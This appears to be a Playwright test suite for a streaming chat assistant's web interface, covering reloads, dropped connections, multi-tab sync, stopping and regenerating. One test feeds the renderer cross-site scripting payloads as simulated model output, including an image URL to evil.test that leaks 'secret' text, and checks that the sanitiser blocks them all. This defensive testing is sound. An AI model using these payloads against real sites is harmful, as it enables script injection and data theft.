import type { Page } from '@playwright/test'
import { deferred } from '../../../test/support/deferred.ts'
import type { Turn } from '../../assistant/schemas.ts'
import { writeScripted } from '../../assistant/scripted-model.ts'
import { startFaultyProxy } from '../support/faulty-proxy.ts'
import { expect, lastingTest, test as base } from '../support/fixtures.ts'
import { type ModelCall, openaiDelta, startModelStandIn } from '../support/model-stand-in.ts'
import { ServerProcess } from '../support/server-process.ts'

interface Fixtures {
  standIn: Awaited<ReturnType<typeof startModelStandIn>>
  faults: Awaited<ReturnType<typeof startFaultyProxy>>
}

/** The test plays the model: an answer stays in the middle for as long as it takes. */
const test = base.extend<Fixtures>({
  standIn: async ({}, use) => {
    const standIn = await startModelStandIn()
    await use(standIn)
    await standIn.stop()
  },
  server: async ({ standIn }, use) => {
    const server = new ServerProcess({
      OPENAI_MODEL: 'test-model',
      OPENAI_BASE_URL: standIn.url,
      OPENAI_API_KEY: 'sk-secret-0123456789',
    })
    await server.start()
    await use(server)
    await server.dispose()
  },
  faults: async ({ server }, use) => {
    const faults = await startFaultyProxy(server.url)
    await use(faults)
    await faults.stop()
  },
})

/** With the scripted model, whatever the environment says. An answer takes about eight seconds. */
const scriptedTest = base.extend({
  server: async ({}, use) => {
    const server = new ServerProcess({
      OPENAI_MODEL: '',
      ANTHROPIC_MODEL: '',
      ASSISTANT_PACE: '40',
    })
    await server.start()
    await use(server)
    await server.dispose()
  },
})

const prompt = 'How does this answer survive?'
const firstHalf = '## Whole\n\nThe first half **in the mid'
const secondHalf = 'dle** and the second.\n\n```ts\nconst answer = 42\n```\n'
const state = (page: Page) => page.locator('.turn .state').last()
const markdown = (page: Page) => page.locator('.turn .markdown').last()

async function ask(page: Page, text = prompt): Promise<void> {
  await page.getByLabel('Message', { exact: true }).fill(text)
  await page.keyboard.press('Enter')
}

async function beginConversation(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'New conversation' }).click()
  await expect(page.getByRole('heading', { name: 'How can I help?' })).toBeVisible()
  await ask(page)
}

/** Answers the next prompt, up to the middle. */
async function writeFirstHalf(standIn: Fixtures['standIn'], pages: readonly Page[]) {
  const call = await standIn.next()
  call.send(openaiDelta(firstHalf))
  for (const page of pages) await expectFirstHalf(page)
  return call
}

async function expectFirstHalf(page: Page): Promise<void> {
  // The emphasis is shown before its end has come.
  await expect(markdown(page).locator('strong')).toHaveText('in the mid')
  await expect(state(page)).toHaveText('Writing')
}

function writeSecondHalf(call: ModelCall): void {
  call.send(openaiDelta(secondHalf))
  call.send('[DONE]')
}

/** The last turn of the page's conversation, as stored. */
async function storedTurn(page: Page): Promise<Turn> {
  const id = new URL(page.url()).searchParams.get('c')
  const response = await fetch(`${new URL(page.url()).origin}/assistant/api/conversations/${id}`)
  return ((await response.json()) as { turns: Turn[] }).turns.at(-1)!
}

/** The answer is whole, in the store and in the page, and was generated once. */
async function expectWhole(page: Page, text = firstHalf + secondHalf): Promise<void> {
  await expect(state(page)).toHaveText('Complete')
  const turn = await storedTurn(page)
  expect(turn.text).toBe(text)
  expect(turn.generations).toBe(1)
  await expect(page.locator('.turn .details').last()).toContainText(
    `${text.match(/\S+/g)!.length} words · generated once`,
  )
}

/** A page that loads the answer as a whole shows the same. */
async function expectSameAfterReload(page: Page): Promise<void> {
  // The page shows text in the next frame.
  await page.evaluate(() => new Promise(requestAnimationFrame))
  const shown = await markdown(page).innerText()
  await page.reload()
  await expect(state(page)).toHaveText('Complete')
  await expect.poll(() => markdown(page).innerText()).toBe(shown)
}

/** The methods of the requests for answers. */
function watchRequests(page: Page): string[] {
  const requests: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('/api/answers/')) requests.push(request.method())
  })
  return requests
}

test('an answer continues after a reload in the middle', async ({ page, standIn }) => {
  const requests = watchRequests(page)
  await page.goto('/assistant/')
  await beginConversation(page)
  const call = await writeFirstHalf(standIn, [page])
  await page.reload()
  await expectFirstHalf(page)
  writeSecondHalf(call)
  await expectWhole(page)
  expect(requests).toEqual(['POST', 'GET'])
  expect(standIn.count).toBe(1)
})

test('an answer continues after its connection was cut', async ({ page, faults, standIn }) => {
  const requests = watchRequests(page)
  await page.goto(`${faults.url}/assistant/`)
  await beginConversation(page)
  const call = await writeFirstHalf(standIn, [page])
  faults.cut()
  await expect.poll(() => requests).toEqual(['POST', 'GET'])
  writeSecondHalf(call)
  await expect(page.locator('.turn .details').last()).toContainText('2 connections')
  await expectWhole(page)
  await expectSameAfterReload(page)
  expect(standIn.count).toBe(1)
})

test('a lost response to the POST causes no second generation', async ({
  page,
  faults,
  standIn,
}) => {
  const requests = watchRequests(page)
  await page.goto(`${faults.url}/assistant/`)
  faults.loseResponsesTo('POST /assistant/api/answers/')
  await beginConversation(page)
  await expect.poll(() => requests.length).toBeGreaterThanOrEqual(2)
  faults.loseResponsesTo(undefined)
  const call = await writeFirstHalf(standIn, [page])
  writeSecondHalf(call)
  await expectWhole(page)
  expect(new Set(requests)).toEqual(new Set(['POST']))
  expect(standIn.count).toBe(1)
})

scriptedTest('a killed server continues an answer with the next word', async ({ page, server }) => {
  await page.goto('/assistant/')
  await beginConversation(page)
  await expect(markdown(page)).toContainText(/\w/)
  await server.kill()
  await expect(state(page)).toHaveText(/^Reconnecting/)
  const beginning = await markdown(page).innerText()
  await server.start()
  await expect(state(page)).toHaveText('Complete')
  expect((await markdown(page).innerText()).length).toBeGreaterThan(beginning.length)
  await expectWhole(page, writeScripted(prompt, (await storedTurn(page)).id))
  await expectSameAfterReload(page)
})

test('Stop ends the answer in both tabs, and Regenerate writes another', async ({
  page,
  context,
  standIn,
}) => {
  await page.goto('/assistant/')
  await beginConversation(page)
  const call = await writeFirstHalf(standIn, [page])
  const second = await context.newPage()
  await second.goto(page.url())
  await expectFirstHalf(second)
  await second.getByRole('button', { name: 'Stop' }).click()
  // The request to the model is aborted.
  await call.closed
  for (const each of [page, second]) {
    await expect(state(each)).toHaveText('Stopped')
    await expect(markdown(each)).toContainText('The first half')
  }
  expect(await storedTurn(page)).toMatchObject({ status: 'stopped', text: firstHalf })

  await page.getByRole('button', { name: 'Regenerate' }).click()
  await writeFirstHalf(standIn, [page, second])
  for (const each of [page, second]) await expect(each.locator('.turn')).toHaveCount(1)
  await page.keyboard.press('Escape')
  for (const each of [page, second]) await expect(state(each)).toHaveText('Stopped')
  expect(standIn.count).toBe(2)
})

test('prompts of two tabs appear in both', async ({ page, context, standIn }) => {
  await page.goto('/assistant/')
  await beginConversation(page)
  const first = await writeFirstHalf(standIn, [page])
  const second = await context.newPage()
  await second.goto(page.url())
  await expectFirstHalf(second)
  writeSecondHalf(first)
  for (const each of [page, second]) await expectWhole(each)
  await ask(second, 'And the next one?')
  const next = await writeFirstHalf(standIn, [page, second])
  for (const each of [page, second])
    await expect(each.locator('.prompt p')).toHaveText([prompt, 'And the next one?'])
  writeSecondHalf(next)
  for (const each of [page, second]) await expectWhole(each)
  expect(standIn.count).toBe(2)
})

test('the end stays in view until the user scrolls up', async ({ page, standIn }) => {
  await page.setViewportSize({ width: 390, height: 700 })
  await page.goto('/assistant/')
  await page.locator('summary').click()
  await beginConversation(page)
  const call = await standIn.next()
  const scroller = page.locator('#scroller')
  const distance = () =>
    scroller.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight)
  const write = async (name: string) => {
    for (let line = 1; line <= 20; line += 1) call.send(openaiDelta(`${name}, line ${line}\n\n`))
    await expect(markdown(page)).toContainText(`${name}, line 20`)
  }
  await write('First')
  await expect.poll(distance).toBeLessThan(2)
  await scroller.hover()
  // The wheel scrolls smoothly.
  const scrolled = await scroller.evaluateHandle((node) => ({
    end: new Promise((resolve) => node.addEventListener('scrollend', resolve, { once: true })),
  }))
  await page.mouse.wheel(0, -300)
  await scrolled.evaluate(({ end }) => end.then(() => {}))
  await expect(page.getByRole('button', { name: 'Latest words' })).toBeVisible()
  const before = await scroller.evaluate((node) => node.scrollTop)
  await write('Second')
  expect(await scroller.evaluate((node) => node.scrollTop)).toBe(before)
  await page.getByRole('button', { name: 'Latest words' }).click()
  await write('Third')
  await expect.poll(distance).toBeLessThan(2)
  call.send('[DONE]')
})

lastingTest('a narrow screen’s list opens before a conversation has loaded', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 700 })
  const load = deferred()
  await page.route('**/api/conversations/latest', async (route) => {
    await load.promise
    await route.continue()
  })
  await page.goto('/assistant/')
  const button = page.getByRole('button', { name: 'New conversation' })
  await expect(button).toBeHidden()
  await page.locator('summary').click()
  await expect(button).toBeVisible()
  load.resolve()
  await expect(page.locator('.turn').first()).toBeVisible()
  await expect(button).toBeVisible()
})

test('a model’s HTML, links and images do nothing', async ({ page, standIn }) => {
  const requested: string[] = []
  page.on('request', (request) => requested.push(request.url()))
  page.on('dialog', (dialog) => void dialog.accept().then(() => requested.push('dialog')))
  await page.goto('/assistant/')
  await page.getByRole('button', { name: 'New conversation' }).click()
  await ask(page, 'hello')
  const call = await standIn.next()
  for (const line of [
    '<script>document.title = "script"</script>',
    '<img src=x onerror="document.title=\'image\'">',
    '![](https://evil.test/steal?text=secret) ![x](x" onerror="alert(1))',
    '[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
    '[relative](/assistant/api/model) [good](https://example.com/)',
    '<iframe src="https://evil.test/"></iframe><form action="https://evil.test/"><button>Log in',
    '<style>body { display: none }</style><svg/onload=alert(1)>',
    '| <img src=y onerror=alert(1)> | b |\n| --- | --- |\n| <b id="text">c</b> | `<i>` |',
    '```html"onmouseover="alert(1)\n<script>alert(1)</script>',
  ])
    call.send(openaiDelta(`${line}\n\n`))
  // The fence is still open.
  await expect(markdown(page).locator('figure')).toContainText('<script>alert(1)</script>')
  await expect(markdown(page)).toContainText('<iframe src="https://evil.test/">')
  call.send(openaiDelta('```\n\nThe end.'))
  call.send('[DONE]')
  await expect(state(page)).toHaveText('Complete')
  await expect(markdown(page)).toContainText('The end.')
  await expect(
    markdown(page).locator('script, img, iframe, form, style, svg, input, [id], [onerror]'),
  ).toHaveCount(0)
  const links = markdown(page).locator('a[href]')
  await expect(links).toHaveCount(1)
  await expect(links).toHaveAttribute('href', 'https://example.com/')
  await expect(links).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  await expect(page).toHaveTitle(/Assistant/)
  expect(requested.filter((url) => url === 'dialog' || url.includes('evil'))).toEqual([])
  // Copied as it is.
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.getByRole('button', { name: 'Copy' }).click()
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    '<script>alert(1)</script>',
  )
})

test('a failure of the model is shown, and Regenerate asks again', async ({ page, standIn }) => {
  await page.goto('/assistant/')
  await page.getByRole('button', { name: 'New conversation' }).click()
  await ask(page, 'hello')
  const call = await standIn.next()
  call.send(openaiDelta('The first words'))
  call.send({ error: { message: 'The engine is overloaded' } })
  await expect(state(page)).toHaveText('Failed')
  await expect(page.locator('.turn')).toContainText('The engine is overloaded')
  await expect(markdown(page)).toHaveText('The first words')
  await page.getByRole('button', { name: 'Regenerate' }).click()
  const again = await standIn.next()
  again.send(openaiDelta('Now it works.'))
  again.send('[DONE]')
  await expect(state(page)).toHaveText('Complete')
  await expect(markdown(page)).toHaveText('Now it works.')
  await expect(page.locator('.turn .problem')).toBeHidden()
})
